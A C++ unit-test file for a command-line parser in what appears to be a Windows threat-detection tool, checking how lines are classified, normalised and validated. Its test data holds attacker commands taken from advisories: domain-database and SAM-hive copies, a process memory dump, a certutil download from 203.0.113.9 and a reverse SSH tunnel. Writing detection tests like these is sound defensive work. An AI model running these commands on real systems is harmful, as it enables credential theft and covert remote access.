// What lines mean: the advisories' commands, everyday lines beside them, arguments, renamed programs, shapes.

#include <gtest/gtest.h>

#include "command/reading_testing.h"
#include "command/usage.h"

namespace landwarden::command {
namespace {

struct Meant {
  std::string_view line, action, role, value;
};

TEST(Actions, OfTheAdvisoriesLines) {
  const Meant table[] = {
      {R"(wmic process call create "ntdsutil \"ac i ntds\" ifm \"create full C:\Windows\Temp\pro\" q q")",
       "ntds_copy", "to", R"(C:\Windows\Temp\pro)"},
      {R"(ntdsutil ac in ntds ifm cr fu C:\x q q)", "ntds_copy", "to", R"(C:\x)"},
      {R"(ntdsutil "activate instance ntds" "ifm" "create sysvol full C:\Program Files\x" q q)", "ntds_copy",
       "to", R"(C:\Program Files\x)"},
      {R"(ntdsutil snapshot "ac i ntds" create quit quit)", "shadow_copy_create", "", ""},
      {"vssadmin create shadow /for=C:", "shadow_copy_create", "from", "C:"},
      {"netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=10.1.2.3 "
       "connectport=8443 protocol=tcp",
       "port_proxy_add", "to", "10.1.2.3"},
      {"netsh int portp a v4 9999 10.1.2.3 8443", "port_proxy_add", "to", "10.1.2.3"},
      {R"(cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__17095 2>&1)", "output_to_share", "to",
       R"(\\127.0.0.1\ADMIN$\__17095)"},
      {R"(7z.exe a -pPa55 c:\windows\temp\x.7z c:\plans)", "archive_create_protected", "secret", "Pa55"},
      {R"(reg save HKEY_LOCAL_MACHINE\sam ss.dat)", "hive_save", "what", R"(HKLM\sam)"},
      {R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 708 C:\l.dmp full)", "process_memory_dump",
       "what", "708"},
      {R"(psexec \\FS02 -u corp\adm -p Secret1 cmd /c whoami)", "remote_command_run", "account",
       R"(corp\adm)"},
      {"powershell Get-EventLog -Lo security -inst 4624", "logon_events_read", "what", "security"},
      {"net group \"Domain Admins\" /dom", "group_list", "name", "Domain Admins"},
      {"certutil -urlcache -split -f http://203.0.113.9/a.exe c:\\a.exe", "download", "to", R"(c:\a.exe)"},
      {"sc \\\\FS02 create upd binPath= \"cmd /c whoami\"", "service_create", "host", "FS02"},
      {"schtasks /create /s FS02 /tn upd /tr \"cmd /c whoami\" /sc onstart", "task_create", "host", "FS02"},
      {"ssh -R 9999:127.0.0.1:3389 op7@203.0.113.9", "tunnel_open", "host", "op7@203.0.113.9"},
  };
  for (const Meant& meant : table) {
    const Reading reading = read(meant.line);
    EXPECT_EQ(reading.main, meant.action) << meant.line;
    if (meant.role.empty()) continue;
    EXPECT_EQ(reading.argument(meant.role), meant.value) << meant.line;
  }
}

TEST(Actions, OfEverydayLinesThatLookAlike) {
  const std::pair<std::string_view, std::string_view> table[] = {
      {"vssadmin list shadows", "shadow_copy_list"},
      {R"(ntdsutil "activate instance ntds" files info quit quit)", ""},
      {"netsh interface portproxy show all", "port_proxy_list"},
      {"netsh interface ip show config", "network_config_show"},
      {R"(7z.exe a D:\backup\night.7z D:\plans)", "archive_create"},
      {R"(reg save HKLM\SOFTWARE\Meterwerk D:\backup\mw.hiv)", "registry_export"},
      {"wevtutil qe Application /c:5 /f:text", "eventlog_read"},
      {"certutil -hashfile a.iso SHA256", ""},
      {"net stop Fax", "service_stop"},
      {"net use S: \\\\fs02\\plans", "share_use"},
      {"bcdedit /enum", "system_info"},
      {"msiexec /i C:\\Install\\agent.msi /qn", "installer_run"},
      {"wbadmin get versions", "backup_list"},
      {"rundll32.exe shell32.dll,Control_RunDLL inetcpl.cpl", "program_start"},
  };
  for (const auto& [line, action] : table) EXPECT_EQ(read(line).main, action) << line;
}

TEST(Actions, FollowTheMakersNameOfARenamedProgram) {
  const Reading reading = read({.line = R"(C:\ProgramData\upd.exe a -hpPa55 x.tmp c:\plans)",
                                .image = R"(C:\ProgramData\upd.exe)",
                                .original_name = "Rar.exe"});
  EXPECT_EQ(reading.main, "archive_create_protected");
  EXPECT_TRUE(reading.renamed);
  const Reading honest =
      read({.line = R"(rar a x.rar y)", .image = R"(C:\x\Rar.exe)", .original_name = "Rar.exe"});
  EXPECT_FALSE(honest.renamed);
}

TEST(Actions, OfUnknownProgramsAreNone) {
  const Reading reading = read("frobnicate /now");
  EXPECT_EQ(reading.main, "");
  EXPECT_TRUE(reading.actions.empty());
}

TEST(Shape, StaysWhenOnlyValuesChange) {
  EXPECT_EQ(
      read(R"(C:\x\MyTool.exe /job 17 "D:\a b\c.txt" 2026-03-02 {54849625-5478-4994-a5ba-3e3b0328c30d})")
          .shape,
      "mytool /job {number} {path} {date} {guid}");
  EXPECT_EQ(read(R"(net use \\fs01\plans /user:corp\a)").shape,
            read(R"(net use \\fs02\plans /user:corp\b)").shape);
  EXPECT_EQ(read(R"(7z a -pPa55 d:\x.7z d:\y)").shape, "7z a -p{secret} {path} {path}");
  EXPECT_NE(read("net user").shape, read("net group").shape);
}

TEST(Grammar, SaysWhatIsWrongAndWhere) {
  auto actions = ActionTable::parse(
      "actions:\n- id: x\n  attack: [T1000]\n  weight: 1\n  en: {title: a, use: b, abuse: c, normal: d}\n"
      "  ja: {title: a, use: b, abuse: c, normal: d}\n",
      "actions.yaml");
  ASSERT_TRUE(actions.has_value()) << actions.error().to_string();
  auto grammar = Grammar::make(std::move(*actions));
  const auto error = [&](std::string_view text) {
    const auto done = grammar->add(text, "t.yaml");
    return done ? std::string("none") : done.error().to_string();
  };
  EXPECT_EQ(error("programs: [{program: a, uses: [{usage: 'x', action: x}]}]"), "none");
  EXPECT_NE(error("programs:\n- program: b\n  uses: [{usage: 'x', action: y}]").find("t.yaml:3"),
            std::string::npos);
  EXPECT_NE(error("programs: [{program: c, uses: [{usage: '{who}'}]}]").find("unknown role"),
            std::string::npos);
  EXPECT_NE(error("programs: [{program: a}]").find("already a grammar for a"), std::string::npos);
  EXPECT_NE(error("programs: [{program: d, syntax: loud}]").find("known: windows"), std::string::npos);
  EXPECT_NE(error("programs: [{program: e, colour: red}]").find("unknown key"), std::string::npos);
  EXPECT_FALSE(ActionTable::parse("actions: [{id: x, weight: 9}]", "a").has_value());
}

TEST(Usage, IsReadPartByPart) {
  const auto parts = parse_usage(
      "create|make {what:path} [/for|f={from}] -p{secret} name={name} {command:line...}", Syntax::windows);
  ASSERT_TRUE(parts.has_value());
  ASSERT_EQ(parts->size(), 6u);
  EXPECT_EQ((*parts)[0].names, (std::vector<std::string>{"create", "make"}));
  EXPECT_TRUE((*parts)[2].optional);
  EXPECT_TRUE((*parts)[3].glued);
  EXPECT_EQ((*parts)[4].kind, UsagePart::Kind::key_value);
  EXPECT_EQ((*parts)[5].kind, UsagePart::Kind::rest);
  EXPECT_FALSE(parse_usage("[x", Syntax::windows).has_value());
  EXPECT_FALSE(parse_usage("{x:y}", Syntax::windows).has_value());
}

// Every action is given by some grammar, or nobody could ever see it.
TEST(Vocabulary, IsUsedByTheGrammars) {
  std::vector<std::string_view> unused;
  for (const Action& action : built_in_grammar().actions().all()) {
    bool used = false;
    for (const Program& program : built_in_grammar().programs()) {
      for (const Use& use : program.uses) used = used || use.action == &action;
    }
    if (!used) unused.push_back(action.id);
  }
  EXPECT_TRUE(unused.empty()) << unused.front();
}

}  // namespace
}  // namespace landwarden::command
